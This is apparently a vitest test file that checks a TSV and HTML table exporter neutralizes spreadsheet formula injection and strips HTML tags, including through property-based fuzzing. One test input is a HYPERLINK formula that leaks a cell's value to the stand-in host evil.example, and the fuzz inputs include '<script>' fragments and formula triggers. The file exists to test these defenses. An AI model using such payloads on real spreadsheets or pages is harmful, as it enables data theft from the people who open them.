// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { startsWithFormulaTrigger } from '@/core/exporters/text-safety';
import { renderTableHtml, renderTsv, tsvCell } from '@/core/exporters/tsv-exporter';
import { buildReport } from '@/core/report/build-report';
import type { CompactRow } from '@/core/report/compact-table';
import { COMPACT_COLUMNS } from '@/core/report/compact-table';
import type { Report } from '@/core/report/model';
import type { ResolvedRule } from '@/core/resolve/model';

import { exportCatalog } from '../../../fixtures/catalogs';
import type { FixtureNames } from '../../../fixtures/resolution-fixture';
import {
  DEFAULT_NAMES,
  draftResolution,
  FIXTURE_PERMALINK,
  fixturePlan,
  fixtureResolution,
  HOSTILE_NAMES,
} from '../../../fixtures/resolution-fixture';

function namedReport(names: FixtureNames, resolution = fixtureResolution(names)): Report {
  return buildReport({
    plan: fixturePlan(names),
    resolution,
    catalog: exportCatalog,
    permalink: FIXTURE_PERMALINK,
  });
}

function hostileReport(): Report {
  return namedReport(HOSTILE_NAMES);
}

const TABLE_ELEMENTS = ['table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td'];

const cells = (tsv: string) =>
  tsv
    .replace(/\n$/, '')
    .split('\n')
    .map((line) => line.split('\t'));

/** The table of an HTML fragment as the browser reads it, and every element name in it. */
function parseHtml(html: string) {
  const doc = new DOMParser().parseFromString(html, 'text/html');
  const rows = [...doc.querySelectorAll('tr')].map((tr) =>
    [...tr.children].map((cell) => cell.textContent),
  );
  const elements = [...doc.body.querySelectorAll('*')].map((e) => e.localName);
  const attributes = [...doc.body.querySelectorAll('*')].flatMap((e) => [...e.attributes]);
  return { doc, rows, elements, attributes };
}

const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
];

/** Cells from all of Unicode, plus formula triggers, HTML and the table's own separators. */
const cell = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...TRIGGERS),
        fc.constantFrom('<', '>', '&', '"', "'", '</td>', '<script>', '&amp;', '|', ' ', 'a'),
        fc.constantFrom('\u202e', '\u200e', '\u0085', '\u2028', '\u000b', '=HYPERLINK("x")'),
      ),
      { maxLength: 10 },
    )
    .map((parts) => parts.join('')),
);

const row = fc
  .array(cell, { minLength: COMPACT_COLUMNS.length, maxLength: COMPACT_COLUMNS.length })
  .map((values) => Object.fromEntries(COMPACT_COLUMNS.map((c, i) => [c, values[i]])))
  .map((r) => r as CompactRow);

/** Names for every host and the plan, each from `cell` (hostile text of any kind). */
const names: fc.Arbitrary<FixtureNames> = fc.record(
  Object.fromEntries(Object.keys(DEFAULT_NAMES).map((k) => [k, cell])) as Record<
    keyof FixtureNames,
    typeof cell
  >,
);

describe('Copy table (TSV)', () => {
  it('replaces tabs and line breaks in cells with spaces', () => {
    expect(tsvCell('a\tb\r\nc\nd\re\u2028f')).toBe('a b c d e f');
  });

  it('starts with the header row (no title line), one line per rule in six columns, the provenance last', () => {
    const report = hostileReport();
    const lines = renderTsv(report).trimEnd().split('\n');
    expect(lines).toHaveLength(1 + report.rows.length + 1);
    expect(lines[0]).toBe('Rule\tFrom\tTo\tProtocol\tPort(s)\tPurpose');
    for (const line of lines.slice(0, -1)) expect(line.split('\t')).toHaveLength(6);
    expect(lines.slice(1, -1).map((line) => line.split('\t')[0])).toEqual(
      report.rows.map((row) => row.Rule),
    );
    expect(lines.at(-1)).toContain(FIXTURE_PERMALINK);
    expect(lines.at(-1)).toContain('netwrix/docs@c0ffee42');
  });

  it('is compact: no notes, references or conditions', () => {
    const report = namedReport(DEFAULT_NAMES);
    const text = renderTsv(report);
    for (const row of report.rows) {
      for (const long of [row.Notes, row.Reference, row.Condition]) {
        if (long !== '') expect(text).not.toContain(long);
      }
    }
    expect(text).not.toContain('Errata');
  });

  it('names the hosts, their addresses and role, the ports and the purpose of each rule', () => {
    const lines = cells(renderTsv(namedReport(DEFAULT_NAMES)));
    expect(lines[1]).toEqual([
      'R01',
      'AM Console (10.0.0.10) [Activity Monitor Console]',
      'Agent NYC (agent-nyc.corp.example.com); Agent LON (address missing); FS01 (10.0.3.5) [Activity Agent Server]',
      'TCP',
      '4498',
      'Agent protocol: Agent Communication',
    ]);
    expect(lines[2]?.[5]).toBe(
      'SMB: Agent deployment (copy the installer) (inferred: not stated in the vendor documentation)',
    );
  });

  it('marks a rule that is not ready in its purpose', () => {
    const resolution = fixtureResolution();
    const [first, ...rest] = resolution.rules as [ResolvedRule, ...ResolvedRule[]];
    const flawed = { ...first, problems: [{ message: 'Agent port: "70000" is not a valid port' }] };
    const report = namedReport(DEFAULT_NAMES, { ...resolution, rules: [flawed, ...rest] });
    expect(cells(renderTsv(report))[1]?.[5]).toBe(
      'NOT READY: Agent port: "70000" is not a valid port. Agent protocol: Agent Communication',
    );
  });

  it('puts the draft stamp of a plan with errors first, above the header', () => {
    const report = namedReport(DEFAULT_NAMES, draftResolution());
    const lines = renderTsv(report).split('\n');
    expect(lines[0]).toBe('DRAFT \u2014 3 plan errors: fix them before filing');
    expect(lines[1]).toBe(COMPACT_COLUMNS.join('\t'));
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&C4)', `'=HYPERLINK("http://evil.example/?leak="&C4)`],
    ['+FS01', "'+FS01"],
    ['-Isilon', "'-Isilon"],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['\t=1', "' =1"],
    ['\r\n=1', "' =1"],
    ['\u202e=1', "'=1"],
    ['\u0000=1', "'=1"],
    ['a=1', 'a=1'],
  ])('neutralizes formulas like the CSV: %j -> %j', (input, expected) => {
    expect(tsvCell(input)).toBe(expected);
  });

  it('no cell of the hostile plan starts with a formula trigger', () => {
    for (const line of cells(renderTsv(hostileReport()))) {
      for (const c of line) expect(startsWithFormulaTrigger(c), c).toBe(false);
    }
  });

  it('no cell starts with a formula trigger, whatever the plan holds', () => {
    fc.assert(
      fc.property(cell, (text) => {
        const out = tsvCell(text);
        expect(startsWithFormulaTrigger(out)).toBe(false);
        expect(out).not.toMatch(/[\t\r\n]/);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('Copy table (HTML beside the text)', () => {
  it('is a table with a header row whose cells read as the TSV cells', () => {
    const report = hostileReport();
    const { rows, elements, attributes } = parseHtml(renderTableHtml(report));
    expect(rows).toEqual(cells(renderTsv(report)));
    expect(new Set(elements)).toEqual(new Set(TABLE_ELEMENTS));
    expect(attributes).toEqual([]);
  });

  it('puts the column names in <thead> as <th>, the rules as <td>, the provenance in <tfoot>', () => {
    const report = hostileReport();
    const { doc } = parseHtml(renderTableHtml(report));
    const headRows = [...doc.querySelectorAll('thead tr')];
    expect(
      headRows.map((r) => [...r.children].map((c) => `${c.localName}:${c.textContent}`)),
    ).toEqual([COMPACT_COLUMNS.map((c) => `th:${c}`)]);
    expect(doc.querySelectorAll('tbody tr')).toHaveLength(report.rows.length);
    expect(doc.querySelectorAll('tbody th')).toHaveLength(0);
    expect(doc.querySelector('tfoot')?.textContent).toContain(FIXTURE_PERMALINK);
  });

  it('for any names in the plan: no tag or attribute survives, every cell reads as its TSV cell', () => {
    fc.assert(
      fc.property(names, (hostile) => {
        const report = namedReport(hostile);
        const { doc, rows: parsed, elements, attributes } = parseHtml(renderTableHtml(report));
        expect(parsed).toEqual(cells(renderTsv(report)));
        for (const name of elements) expect(TABLE_ELEMENTS).toContain(name);
        expect(attributes).toEqual([]);
        expect(doc.body.children).toHaveLength(1);
        for (const c of parsed.flat()) expect(startsWithFormulaTrigger(c ?? '')).toBe(false);
      }),
      { numRuns: 200 },
    );
  }, 120_000);

  it('for any cells: same rows and cells as the TSV, each cell its TSV text, nothing but a table', () => {
    const base = hostileReport();
    fc.assert(
      fc.property(cell, fc.array(row, { maxLength: 4 }), (title, rows) => {
        const report: Report = { ...base, title, compactRows: rows };
        const html = renderTableHtml(report);
        const { doc, rows: parsed, elements, attributes } = parseHtml(html);
        expect(parsed).toEqual(cells(renderTsv(report)));
        for (const name of elements) expect(TABLE_ELEMENTS).toContain(name);
        expect(attributes).toEqual([]);
        expect(doc.body.children).toHaveLength(1);
        expect(doc.head.children).toHaveLength(0);
      }),
      { numRuns: 300 },
    );
  }, 120_000);
});
